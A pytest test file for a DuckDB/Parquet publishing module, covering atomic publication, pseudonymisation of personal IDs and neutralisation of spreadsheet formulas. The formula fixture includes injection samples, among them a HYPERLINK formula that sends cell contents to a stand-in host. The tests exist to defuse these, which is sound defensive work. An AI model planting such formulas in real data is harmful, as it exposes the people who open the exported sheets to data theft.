import hashlib
import json
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import duckdb
import polars as pl
import pytest

from core.publish import (
    KEEP_READY,
    KEEP_SETS,
    PersonalData,
    _pseudonym_sql,
    is_formula,
    pseudonym,
    pseudonym_key,
    publish,
    published_tables,
)
from core.warehouse import sql_string


def _warehouse(path: Path, value: int) -> None:
    con = duckdb.connect(str(path))
    con.execute("create schema if not exists marts")
    con.execute(
        f"create or replace table marts.a as select range as id, {value} as v from range(1000)"
    )
    con.execute(f"create or replace table marts.b as select {value} as v")
    con.close()


def _digest(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def test_publication_writes_duckdb_and_parquet_with_schema_marts(tmp_path):
    wh = tmp_path / "warehouse.duckdb"
    _warehouse(wh, 1)
    pub = publish(wh, tmp_path / "published", ["a", "b"], run_id="r1")
    assert pub.row_counts == {"a": 1000, "b": 1}
    con = duckdb.connect(str(pub.path), read_only=True)
    assert con.execute("select count(*) from marts.a").fetchone()[0] == 1000
    assert con.execute("select run_id from marts.publication_info").fetchone()[0] == "r1"
    con.close()
    assert pl.read_parquet(tmp_path / "published/parquet/a.parquet").height == 1000
    assert not list((tmp_path / "published").glob(".*tmp*"))


def test_a_failed_publication_leaves_the_previous_one_byte_identical(tmp_path):
    wh = tmp_path / "warehouse.duckdb"
    _warehouse(wh, 1)
    publish(wh, tmp_path / "published", ["a", "b"])
    before = _digest(tmp_path / "published")
    _warehouse(wh, 2)
    with pytest.raises(duckdb.CatalogException):
        publish(wh, tmp_path / "published", ["a", "b", "missing_mart"])
    assert _digest(tmp_path / "published") == before


def test_republication_swaps_the_whole_parquet_set(tmp_path):
    wh = tmp_path / "warehouse.duckdb"
    _warehouse(wh, 1)
    publish(wh, tmp_path / "published", ["a", "b"])
    _warehouse(wh, 2)
    publish(wh, tmp_path / "published", ["a", "b"])
    assert pl.read_parquet(tmp_path / "published/parquet/b.parquet")["v"].item() == 2


def test_old_sets_are_pruned_markers_first(tmp_path):
    wh = tmp_path / "warehouse.duckdb"
    published = tmp_path / "published"
    for value in range(1, 6):
        _warehouse(wh, value)
        last = publish(wh, published, ["a", "b"])
    sets = sorted(p.name for p in (published / "versions").iterdir() if p.is_dir())
    ready = sorted(p.name for p in (published / "versions").glob("*.ready"))
    # the newest set first (its key counts down); markers go one publication before files
    assert sets[0] == last.set_dir.name and len(sets) == KEEP_SETS
    assert ready == [f"{name}.ready" for name in sets[:KEEP_READY]]
    assert (published / "parquet").resolve() == last.set_dir.resolve()
    assert sorted(p.name for p in published.iterdir()) == ["parquet", "trustcap.duckdb", "versions"]


def test_a_connection_kept_open_sees_the_next_publication(tmp_path):
    """A BI pool keeps one read-only connection (and DuckDB one instance per file in a
    process): the next query after a publication shows the new figures."""
    wh = tmp_path / "warehouse.duckdb"
    _warehouse(wh, 1)
    pub = publish(wh, tmp_path / "published", ["a", "b"], run_id="r1")
    kept = duckdb.connect(str(pub.path), read_only=True)
    assert kept.execute("select sum(v) from marts.a").fetchone()[0] == 1000
    _warehouse(wh, 2)
    publish(wh, tmp_path / "published", ["a", "b"], run_id="r2")
    assert kept.execute("select sum(v) from marts.a").fetchone()[0] == 2000
    assert kept.execute("select run_id from marts.publication_info").fetchone()[0] == "r2"
    again = duckdb.connect(str(pub.path), read_only=True)  # the same instance, in-process
    assert again.execute("select v from marts.b").fetchone()[0] == 2
    again.close()
    kept.close()


def test_the_documented_sqlalchemy_url_follows_publications_beside_other_readers(tmp_path):
    """README / docs/bi.md: duckdb:///<file> with connect_args read_only, the same for
    every engine of a process (two Superset databases on the file share DuckDB's
    instance); a second spelling of read-only in the same process (the URL's
    ?access_mode=read_only) is refused: "different configuration"."""
    import sqlalchemy as sa

    wh = tmp_path / "warehouse.duckdb"
    _warehouse(wh, 1)
    pub = publish(wh, tmp_path / "published", ["a", "b"])
    engines = [
        sa.create_engine(f"duckdb:///{pub.path}", connect_args={"read_only": True})
        for _ in range(2)
    ]
    held = engines[0].connect()  # the pool's connection, held across publications
    assert held.execute(sa.text("select v from marts.b")).scalar() == 1
    with engines[1].connect() as c:
        assert c.execute(sa.text("select sum(v) from marts.a")).scalar() == 1000
    _warehouse(wh, 2)
    publish(wh, tmp_path / "published", ["a", "b"])
    assert held.execute(sa.text("select v from marts.b")).scalar() == 2
    with engines[1].connect() as c:
        assert c.execute(sa.text("select sum(v) from marts.a")).scalar() == 2000
    assert "b" in sa.inspect(engines[1]).get_view_names(schema="marts")
    with pytest.raises(sa.exc.OperationalError, match="different configuration"):
        sa.create_engine(f"duckdb:///{pub.path}?access_mode=read_only").connect()
    held.close()
    for engine in engines:
        engine.dispose()


def test_new_marts_and_columns_reach_new_connections_and_kept_ones_keep_working(tmp_path):
    wh = tmp_path / "warehouse.duckdb"
    _warehouse(wh, 1)
    pub = publish(wh, tmp_path / "published", ["a", "b"])
    kept = duckdb.connect(str(pub.path), read_only=True)
    con = duckdb.connect(str(wh))
    con.execute(
        "create or replace table marts.a as select range as id, 5 as v, 'x' as added from range(10)"
    )
    con.execute("create table marts.c as select 1 as one")
    con.close()
    publish(wh, tmp_path / "published", ["a", "b", "c"])
    # the kept connection has the catalog it opened: the new figures, the old columns
    assert kept.execute("select sum(v) from marts.a").fetchone()[0] == 50
    kept.close()
    fresh = subprocess.run(
        [
            sys.executable,
            "-c",
            "import duckdb, sys; c = duckdb.connect(sys.argv[1], read_only=True);"
            "print(c.execute('select max(added), (select one from marts.c) from marts.a').fetchone())",
            str(pub.path),
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    assert fresh.stdout.strip() == "('x', 1)"


def test_weird_warehouse_paths_are_read_literally(tmp_path):
    """Views name their files by path: quotes, spaces, glob characters, unicode."""
    # (no "?": DuckDB itself reads it as the start of options in a database path)
    root = tmp_path / "it's [a] *wareh\u00f6use*"
    root.mkdir()
    wh = root / "warehouse.duckdb"
    _warehouse(wh, 3)
    pub = publish(wh, root / "published", ["a", "b"])
    con = duckdb.connect(str(pub.path), read_only=True)
    assert con.execute("select v from marts.b").fetchone()[0] == 3
    con.close()


def test_a_mart_with_no_rows_is_published_empty(tmp_path):
    wh = tmp_path / "warehouse.duckdb"
    _warehouse(wh, 1)
    con = duckdb.connect(str(wh))
    con.execute("create table marts.empty as select 1 as x, 'y' as t where false")
    con.close()
    pub = publish(wh, tmp_path / "published", ["a", "empty"])
    assert pub.row_counts["empty"] == 0
    con = duckdb.connect(str(pub.path), read_only=True)
    assert con.execute("select count(*) from marts.empty").fetchone()[0] == 0
    con.close()


READER = textwrap.dedent(
    """
    import json, pathlib, sys, duckdb
    path, stop = sys.argv[1], pathlib.Path(sys.argv[2])
    con = duckdb.connect(path, read_only=True)  # one connection, kept: a BI pool
    queries = errors = mixed = 0
    seen, messages = [], set()
    while not stop.exists():
        try:
            # a's rows all carry the value v, and there are v x 1000 of them; b holds v
            n, low, high, b = con.execute(
                "select count(*), min(v), max(v), (select v from marts.b) from marts.a"
            ).fetchone()
            queries += 1
            if not (low == high == b and n == 1000 * b):
                mixed += 1
            if not seen or seen[-1] != b:
                seen.append(b)
        except duckdb.Error as exc:
            errors += 1
            messages.add(str(exc)[:200])
    print(json.dumps({"queries": queries, "errors": errors, "mixed": mixed, "seen": seen,
                      "messages": sorted(messages)}))
    """
)


def _sized_warehouse(path: Path, value: int) -> None:
    con = duckdb.connect(str(path))
    con.execute("create schema if not exists marts")
    con.execute(
        f"create or replace table marts.a as select range as id, {value} as v "
        f"from range({1000 * value})"
    )
    con.execute(f"create or replace table marts.b as select {value} as v")
    con.close()


def test_a_reader_process_follows_repeated_publications_without_an_error(tmp_path):
    """Another process queries one kept connection throughout repeated publications
    of sets of different sizes: no error, never a mix of two sets, and it sees each
    new set."""
    wh = tmp_path / "warehouse.duckdb"
    _sized_warehouse(wh, 1)
    pub = publish(wh, tmp_path / "published", ["a", "b"])
    stop = tmp_path / "stop"
    reader = subprocess.Popen(
        [sys.executable, "-c", READER, str(pub.path), str(stop)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    time.sleep(0.5)
    values = [2, 5, 3, 8, 4, 7]
    for value in values:
        _sized_warehouse(wh, value)
        publish(wh, tmp_path / "published", ["a", "b"])
        time.sleep(0.3)
    time.sleep(0.5)
    stop.touch()
    out, err = reader.communicate(timeout=60)
    assert reader.returncode == 0, err
    result = json.loads(out)
    print(result)
    assert result["errors"] == 0, result["messages"]
    assert result["mixed"] == 0
    assert result["queries"] > 100
    assert result["seen"] == [1, *values]


def test_empty_marts_are_explained_by_their_missing_inputs():
    from core.publish import explain_empty_marts

    reasons = explain_empty_marts(
        {"a": 0, "b": 0, "c": 5},
        {"a": ["social/activities"], "b": ["crm/contacts"], "c": ["crm/contacts"]},
        {"social/activities": 0, "crm/contacts": 10},
    )
    assert reasons == {
        "a": "no rows in landing entity social/activities",
        "b": "its inputs have rows, but none qualifies (see the mart's description)",
    }


# --- what reaches BI: pseudonyms, handles, formula text -----------------------------

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
]
HARMLESS = ["-5", "+3.5", "1e-3", "normal text", "a=b", "", "'quoted"]


def _people_warehouse(path: Path) -> None:
    con = duckdb.connect(str(path))
    con.execute("create schema marts")
    con.execute(
        "create table marts.people as select * from (values "
        "('C1', '@alice', 0.9), ('C2', '=HYPERLINK(\"x\")', 0.2), ('C''3 é', null, 0.5)) "
        "t(contact_id, handle, score)"
    )
    con.execute(
        "create table marts.accounts as select * from (values "
        "('tw-1', 'C1'), ('tw-2', null)) t(account_id, contact_id)"
    )
    texts = ", ".join(f"({sql_string(t)})" for t in FORMULAS + HARMLESS)
    con.execute(f"create table marts.texts as select * from (values {texts}) t(text)")
    con.execute(
        "create table marts.lists as select ['=1+1', 'ok', '-4'] as tags, 'brand' as handle"
    )
    con.close()


PERSONAL = {
    "people": {"contact_id": "contact", "handle": "handle"},
    "accounts": {"account_id": "social_account", "contact_id": "contact"},
}


def _published_values(pub) -> dict[str, list[tuple]]:
    """Every published table, read through the catalog and from its Parquet file."""
    con = duckdb.connect(str(pub.path), read_only=True)
    try:
        out = {}
        for table in published_tables(con):
            via_catalog = sorted(con.execute(f"select * from marts.{table}").fetchall(), key=repr)
            via_parquet = sorted(
                pl.read_parquet(pub.parquet_dir / f"{table}.parquet").rows(), key=repr
            )
            assert via_catalog == via_parquet, table
            out[table] = via_catalog
        return out
    finally:
        con.close()


def test_people_get_keyed_pseudonyms_and_their_handles_are_withheld(tmp_path):
    wh = tmp_path / "warehouse.duckdb"
    _people_warehouse(wh)
    key = pseudonym_key(tmp_path / "pseudonym.key")
    pub = publish(
        wh,
        tmp_path / "published",
        ["people", "accounts", "texts", "lists"],
        personal=PersonalData(key=key, columns=PERSONAL),
    )
    got = _published_values(pub)
    people = {r[0]: r for r in got["people"]}
    # the same person, the same pseudonym in every mart: marts still join
    assert set(people) == {pseudonym(c, "contact", key) for c in ("C1", "C2", "C'3 é")}
    assert all(r[1] is None for r in got["people"])  # people's handles: not published
    accounts = dict(got["accounts"])
    assert accounts[pseudonym("tw-1", "social_account", key)] == pseudonym("C1", "contact", key)
    assert accounts[pseudonym("tw-2", "social_account", key)] is None
    # no raw id, no handle of a person anywhere in the publication
    published_text = repr(got)
    for raw in ("C1", "C2", "C'3", "tw-1", "alice", 'HYPERLINK("x")'):
        assert raw not in published_text


def test_raw_ids_are_published_only_when_the_owner_says_so(tmp_path):
    wh = tmp_path / "warehouse.duckdb"
    _people_warehouse(wh)
    key = pseudonym_key(tmp_path / "pseudonym.key")
    pub = publish(
        wh,
        tmp_path / "published",
        ["people", "accounts"],
        personal=PersonalData(key=key, columns=PERSONAL, publish_raw=True),
    )
    got = _published_values(pub)
    assert {r[0] for r in got["people"]} == {"C1", "C2", "C'3 é"}
    # raw, but still never a formula: a handle is text that reaches BI
    assert {r[1] for r in got["people"]} == {"'@alice", '\'=HYPERLINK("x")', None}
    assert dict(got["accounts"]) == {"tw-1": "C1", "tw-2": None}


def test_text_that_starts_a_formula_is_neutralised_in_the_catalog_and_the_parquet(tmp_path):
    wh = tmp_path / "warehouse.duckdb"
    _people_warehouse(wh)
    pub = publish(wh, tmp_path / "published", ["texts", "lists"])
    got = _published_values(pub)
    texts = {r[0] for r in got["texts"]}
    assert texts == {"'" + f for f in FORMULAS} | set(HARMLESS)
    assert not any(is_formula(t) for t in texts)
    assert all(is_formula(f) for f in FORMULAS) and not any(is_formula(h) for h in HARMLESS)
    assert got["lists"] == [(["'=1+1", "ok", "-4"], "brand")]


def test_the_sql_pseudonym_is_hmac_sha256(tmp_path):
    key = pseudonym_key(tmp_path / "k")
    values = ["C0000001", "é ü 漢字", "it's", "", "x" * 300]
    con = duckdb.connect()
    con.execute("create table t as select unnest($1) as v", [values])
    got = dict(con.execute(f"select v, {_pseudonym_sql('v', 'contact', key)} from t").fetchall())
    assert got == {v: pseudonym(v, "contact", key) for v in values}
    assert pseudonym("C1", "contact", key) != pseudonym("C1", "social_account", key)


def test_the_pseudonym_key_is_made_once_owner_only_and_kept_out_of_published(tmp_path):
    path = tmp_path / "warehouse" / "pseudonym.key"
    key = pseudonym_key(path)
    assert len(key) == 32 and pseudonym_key(path) == key
    assert path.stat().st_mode & 0o777 == 0o600
    wh = tmp_path / "warehouse.duckdb"
    _people_warehouse(wh)
    pub = publish(
        wh,
        tmp_path / "warehouse" / "published",
        ["people"],
        personal=PersonalData(key=key, columns={"people": PERSONAL["people"]}),
    )
    for f in pub.path.parent.rglob("*"):
        if f.is_file():
            assert key.hex().encode() not in f.read_bytes() and key not in f.read_bytes()


def test_pipeline_quality_publishes_the_values_a_check_quotes_only_with_raw_ids(tmp_path):
    from datetime import datetime

    from core.quality.gate import pipeline_quality_select
    from core.quality.store import write_results

    row = {
        "checked_at": datetime(2026, 1, 1),
        "asset": "staging/stg_crm__contacts",
        "check_name": "contact_id__unique",
        "check_source": "great_expectations",
        "passed": False,
        "severity": "blocking",
        "observed_value": "2 unexpected (e.g. C0000001, C0000002)",
        "quarantined_rows": None,
        "description": "keys are unique",
    }
    write_results(tmp_path / "quality", "r1", [row])
    con = duckdb.connect()
    for examples, expected in ((False, "2 unexpected"), (True, row["observed_value"])):
        sql = pipeline_quality_select(tmp_path / "quality", examples=examples)
        assert con.execute(f"select observed_value from ({sql})").fetchone()[0] == expected


def test_a_publication_of_the_former_layout_is_taken_over(tmp_path):
    """Before views: trustcap.duckdb held tables and parquet -> parquet-<id>/. The first
    publication replaces the catalog and the link; the former set goes at the next."""
    published = tmp_path / "published"
    legacy = published / "parquet-20260101T000000-abcd1234"
    legacy.mkdir(parents=True)
    con = duckdb.connect(str(published / "trustcap.duckdb"))
    con.execute("create schema marts")
    con.execute("create table marts.a as select 0 as v")
    con.execute(f"copy marts.a to '{legacy / 'a.parquet'}'")
    con.close()
    (published / "parquet").symlink_to(legacy.name)
    wh = tmp_path / "warehouse.duckdb"
    _warehouse(wh, 1)
    publish(wh, published, ["a", "b"])
    con = duckdb.connect(str(published / "trustcap.duckdb"), read_only=True)
    assert con.execute("select sum(v) from marts.a").fetchone()[0] == 1000
    assert con.execute("select count(*) from duckdb_tables()").fetchone()[0] == 0
    con.close()
    assert legacy.exists()  # a Parquet reader may be mid-way through it
    publish(wh, published, ["a", "b"])
    assert not legacy.exists()


def test_the_row_count_check_reads_the_previous_publication_through_its_views(tmp_path):
    from core.quality.gate import previous_row_counts

    wh = tmp_path / "warehouse.duckdb"
    _warehouse(wh, 1)
    pub = publish(wh, tmp_path / "published", ["a", "b"])
    assert previous_row_counts(pub.path) == {"a": 1000, "b": 1, "publication_info": 1}


def test_sets_left_by_a_publication_that_died_before_its_marker_are_never_read(tmp_path):
    wh = tmp_path / "warehouse.duckdb"
    published = tmp_path / "published"
    _warehouse(wh, 1)
    first = publish(wh, published, ["a", "b"])
    versions = published / "versions"
    # two publications died after renaming their set in, before the marker
    key = int(first.set_dir.name[2:])
    for orphan in (key - 1, key - 2):
        shutil.copytree(first.set_dir, versions / f"v={orphan:012d}")
        con = duckdb.connect()
        con.execute(f"copy (select 99 as v) to '{versions / f'v={orphan:012d}' / 'b.parquet'}'")
        con.close()
    _warehouse(wh, 2)
    pub = publish(wh, published, ["a", "b"])
    con = duckdb.connect(str(pub.path), read_only=True)
    assert con.execute("select v from marts.b").fetchone()[0] == 2
    con.close()
    # every set a marker names keeps its files, whatever lies between
    for marker in versions.glob("*.ready"):
        assert (versions / marker.name.removesuffix(".ready")).is_dir()


def test_pseudonyms_need_a_real_key(tmp_path):
    wh = tmp_path / "warehouse.duckdb"
    _people_warehouse(wh)
    with pytest.raises(ValueError, match="key"):
        publish(
            wh,
            tmp_path / "published",
            ["people"],
            personal=PersonalData(key=b"", columns={"people": PERSONAL["people"]}),
        )
